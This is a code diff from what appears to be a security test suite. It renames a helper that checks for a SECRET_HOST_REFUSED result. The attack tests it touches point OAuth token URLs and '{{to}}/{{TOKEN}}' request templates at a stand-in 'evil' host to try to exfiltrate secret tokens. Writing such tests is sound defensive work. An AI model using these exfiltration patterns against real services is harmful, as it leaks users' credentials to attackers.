@@ -32,7 +32,7 @@ export const executeWithValue = async (lab: Lab, more: object = {}) =>
     readonly selected?: unknown;
   };
 
-const codeOf = (result: unknown): Outcome => {
+const findRefusalCode = (result: unknown): Outcome => {
   const text = JSON.stringify(result);
   return /\b(SECRET_HOST_REFUSED)\b/.exec(text)?.[1] ?? text;
 };
@@ -40,7 +40,7 @@ const codeOf = (result: unknown): Outcome => {
 const sendWithOAuth = async (lab: Lab, auth: object): Promise<Outcome> => {
   const whole = { type: 'oauth2', clientId: 'c', accessTokenUrl: getEvilUrl(lab, '/t'), ...auth };
   const { id } = await lab.call('rest_create', { name: `OA${Math.random()}`, url: home(lab), auth: whole });
-  return codeOf(await lab.call('tokens_begin', { id }));
+  return findRefusalCode(await lab.call('tokens_begin', { id }));
 };
 
 const jwt = (lab: Lab, more: object) =>
@@ -309,7 +309,7 @@ export const moreAttacks: readonly Attack[] = [
     refusedCode,
     async (lab) => {
       const { id } = await lab.call('rest_create', { name: `Q${Math.random()}`, url: '{{to}}/{{TOKEN}}' });
-      return codeOf(
+      return findRefusalCode(
         await lab.call('runs_execute', {
           ids: [id],
           rows: [{ to: getEvilUrl(lab) }],
@@ -325,7 +325,9 @@ export const moreAttacks: readonly Attack[] = [
     refusedCode,
     async (lab) => {
       const { id } = await lab.call('rest_create', { name: `Q${Math.random()}`, url: '{{to}}/{{TOKEN}}' });
-      return codeOf(await lab.call('rest_execute_many', { ids: [id], variables: { to: getEvilUrl(lab) } }));
+      return findRefusalCode(
+        await lab.call('rest_execute_many', { ids: [id], variables: { to: getEvilUrl(lab) } }),
+      );
     },
   ],
   [
